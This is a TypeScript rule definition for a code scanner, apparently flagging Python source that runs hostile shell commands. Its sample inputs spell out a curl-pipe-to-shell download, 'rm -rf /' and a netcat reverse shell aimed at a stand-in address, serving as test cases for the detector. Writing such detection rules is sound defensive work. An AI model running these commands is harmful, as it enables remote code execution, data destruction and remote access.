// The rule for source that runs a command which is an attack by itself.

import { defineRule } from '../../define-rule.ts';

export const runsHarmfulCommand = defineRule({
  id: 'python/runs-harmful-command',
  title: 'Source runs a command that fetches and runs code, or destroys',
  category: 'code-execution',
  severity: 'high',
  stability: 'stable',
  since: '0.1',
  cwe: [78, 506, 494],
  owasp: ['ML06:2023', 'LLM03:2025', 'LLM04:2026'],
  atlas: ['AML.T0011.000', 'AML.T0050'],
  tags: ['source', 'shell', 'code-execution'],
  message: '`{call}` in {where} {effect}',
  why: 'Piping a download into a shell, deleting the root, opening a port with a shell behind it: no honest model needs that.',
  fix: ['Do not run this file', 'Look for what it has already done where it was run'],
  falsePositives: 'Installers of developer tools.',
  samples: {
    fires: [
      "python: import os\nos.system('curl http://192.0.2.1/a | sh')",
      "python: import subprocess\nsubprocess.run(['bash', '-c', 'rm -rf /'])",
      "python: import os\nos.popen('nc -e /bin/sh 192.0.2.1 4444')",
    ],
    silent: [
      "python: import os\nos.system('ls -la')",
      "python: import subprocess\nsubprocess.run(['curl', '-o', 'x', 'https://192.0.2.1/a'])",
    ],
  },
});
